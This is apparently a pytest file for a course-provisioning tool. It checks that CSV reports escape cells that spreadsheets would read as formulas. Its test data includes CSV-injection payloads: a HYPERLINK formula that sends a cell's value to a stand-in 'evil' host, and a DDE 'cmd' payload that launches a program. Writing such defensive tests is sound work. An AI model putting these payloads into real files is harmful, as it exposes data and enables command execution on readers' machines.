"""CSV written for spreadsheets holds no formula: a cell that a spreadsheet would read as one
(``=``, ``+``, ``-``, ``@``, tab or CR first, as OWASP's "CSV Injection" lists) is written
with a leading ``'``, which spreadsheets show as text.

The status CSV's cells come from the roster (emails: ``=1+2@x.edu`` and
``-cmd@x.edu`` are addresses the proxy's own rule accepts) and from OpenWebUI (chat ids,
its error explanations in ``detail``); an admin opens the file in Excel or LibreOffice.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from provisioner.bulk import write_report
from provisioner.spreadsheet import spreadsheet_cell
from provisioner.status import StatusRow, write_rows
from provisioner.users import checked_identity, parse_roster

FORMULAS = [
    "=1+2@x.edu",
    "+sum@x.edu",
    "-2+3@x.edu",
    "@SUM(A1)",
    "\t=1+2",
    "\r=1+2",
    ' =HYPERLINK("http://evil","x")',
    '=cmd|" /C calc"!A0',
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_written_as_text(value: str) -> None:
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["ada@x.edu", "", "demo", "0", "yes", "a=b", "1-2"])
def test_ordinary_values_are_left_alone(value: str) -> None:
    assert spreadsheet_cell(value) == value


def test_an_address_the_roster_accepts_reaches_the_status_csv_as_text() -> None:
    email, _ = checked_identity("=1+2@x.edu", None)  # the proxy's rule accepts it
    detail = '=HYPERLINK("http://evil/?"&A1,"click")'
    rows = [StatusRow(email, "demo", "intro", "failed", chat_id="-1", detail=detail)]
    out = io.StringIO()

    write_rows(out, rows, "csv")

    header, cells = list(csv.reader(io.StringIO(out.getvalue())))
    line = dict(zip(header, cells, strict=True))
    assert line["email"] == "'=1+2@x.edu"
    assert line["detail"] == "'" + detail
    assert line["chat_id"] == "'-1"
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)


def test_the_jsonl_rows_are_not_changed() -> None:
    out = io.StringIO()
    write_rows(out, [StatusRow("=1+2@x.edu", "demo", "intro", "missing")], "jsonl")
    assert '"email": "=1+2@x.edu"' in out.getvalue()


def test_the_bulk_report_writes_formulas_as_text(tmp_path: Path) -> None:
    """``bulk --report``: the roster's own emails, valid or not, reach the CSV as text."""
    roster = parse_roster(
        'email\n=1+2@x.edu\n=HYPERLINK("http://evil/")\n',
        "roster.csv",
        course_ids=["demo"],
        skip_invalid=True,
    )
    report = tmp_path / "report.csv"

    write_report(report, roster, {}, [])

    rows = list(csv.DictReader(io.StringIO(report.read_text(encoding="utf-8"))))
    assert [row["email"] for row in rows] == ["'=1+2@x.edu", '\'=HYPERLINK("http://evil/")']
    assert not any(cell[:1] in ("=", "+", "-", "@") for row in rows for cell in row.values())
